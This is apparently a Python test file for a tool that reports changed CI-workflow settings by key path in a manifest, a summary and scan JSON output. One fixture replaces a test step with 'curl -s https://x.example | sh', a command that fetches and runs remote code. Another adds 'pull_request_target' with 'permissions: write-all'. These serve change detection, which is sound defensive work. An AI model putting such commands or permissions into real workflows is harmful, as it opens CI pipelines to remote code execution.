"""Changed configuration named by key path, in the manifest, the summary and `scan --format json`."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

from app.context.config_paths import MOST_PATHS, SettingChange, setting_changes
from app.context.manifest import ChangeManifest
from app.context.manifest_markdown import render
from app.scan import run_scan, to_json

WORKFLOW = """on: push
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: make test
"""
PATH = ".github/workflows/ci.yml"


def changes(base: str, head: str) -> list[tuple[str, str]]:
    return [(c.key, c.change) for c in setting_changes(PATH, base, head)]


def test_a_changed_run_step_is_named_by_its_key_path() -> None:
    head = WORKFLOW.replace("make test", "curl -s https://x.example | sh")
    assert changes(WORKFLOW, head) == [("jobs.build.steps[1].run", "changed")]


def test_added_and_removed_keys_are_named_where_they_start() -> None:
    head = WORKFLOW.replace("on: push", "on: [push, pull_request_target]").replace(
        "    runs-on: ubuntu-latest\n", "    runs-on: ubuntu-latest\n    permissions: write-all\n"
    )
    head += "      - run: ./deploy.sh\n        env:\n          A.B: c\n"
    assert sorted(changes(WORKFLOW, head)) == [
        ("jobs.build.permissions", "added"),
        ("jobs.build.steps[2]", "added"),
        ("on", "changed"),
    ]
    assert changes(head, WORKFLOW) == sorted(
        [("on", "changed"), ("jobs.build.permissions", "removed"), ("jobs.build.steps[2]", "removed")],
        key=lambda c: ["on", "jobs.build.permissions", "jobs.build.steps[2]"].index(c[0]),
    )


def test_odd_keys_are_quoted_and_unreadable_sides_give_nothing() -> None:
    assert changes("env:\n  A.B: 1\n", "env:\n  A.B: 2\n") == [('env["A.B"]', "changed")]
    assert changes("a: 1\n", "a: [\n") == []
    assert setting_changes(PATH, None, WORKFLOW) == []


def test_the_list_stops_at_its_bound() -> None:
    base = "".join(f"k{i}: 1\n" for i in range(200))
    found = setting_changes(PATH, base, base.replace(": 1", ": 2"))
    assert len(found) == MOST_PATHS + 1
    assert found[-1] == SettingChange(PATH, "…", "more")


def test_deep_nesting_is_walked_without_recursion() -> None:
    deep_base = "a: " + "[" * 60 + "1" + "]" * 60 + "\n"
    assert changes(deep_base, deep_base.replace("1", "2")) == [("a" + "[0]" * 60, "changed")]


def test_rendered_manifest_section() -> None:
    manifest = ChangeManifest(
        (),
        (),
        (),
        (),
        (),
        (),
        (),
        (),
        0,
        0,
        settings=(SettingChange(PATH, "jobs.build.steps[1].run", "changed"),),
    )
    assert "changed `jobs.build.steps[1].run` in `.github/workflows/ci.yml`" in render(manifest, 10_000)


def test_scan_json_names_the_changed_step(tmp_path: Path) -> None:
    def git(*args: str) -> None:
        subprocess.run(["git", "-C", str(tmp_path), *args], check=True, capture_output=True)

    git("init", "-q")
    git("config", "user.email", "t@example.org")
    git("config", "user.name", "t")
    (tmp_path / ".github/workflows").mkdir(parents=True)
    (tmp_path / PATH).write_text(WORKFLOW)
    git("add", ".")
    git("commit", "-qm", "base")
    (tmp_path / PATH).write_text(WORKFLOW.replace("make test", "make all"))
    git("commit", "-qam", "head")
    result = run_scan(tmp_path, "HEAD~1", "HEAD", offline=True)
    settings = to_json(result)["context"]["manifest"]["settings"]
    assert list(settings) == [{"path": PATH, "key": "jobs.build.steps[1].run", "change": "changed"}]
    json.dumps(settings)
